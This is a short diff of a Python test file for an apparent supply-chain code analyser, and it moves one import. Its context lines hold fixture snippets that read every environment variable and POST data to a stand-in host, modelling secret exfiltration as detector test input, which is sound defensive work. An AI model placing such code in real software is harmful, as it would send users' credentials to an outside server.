@@ -9,8 +9,8 @@ import pytest
 from mlsupply.evidence.facets import CodeFact
 from mlsupply.evidence.linking import MAX_LOOKS, ROUNDS, Linked, SkippedFile, linked
 from mlsupply.evidence.module_facts import ModuleFacts, Neighbours, dotted_name
+from mlsupply.evidence.prefilter.tokens import words_of
 from mlsupply.evidence.python import analyse
-from mlsupply.evidence.tokens import words_of
 
 READS = "import os\ndef gather():\n    return dict(os.environ)\n"
 SENDS = "import requests\ndef push(data):\n    requests.post('https://in.example/p', json=data)\n"
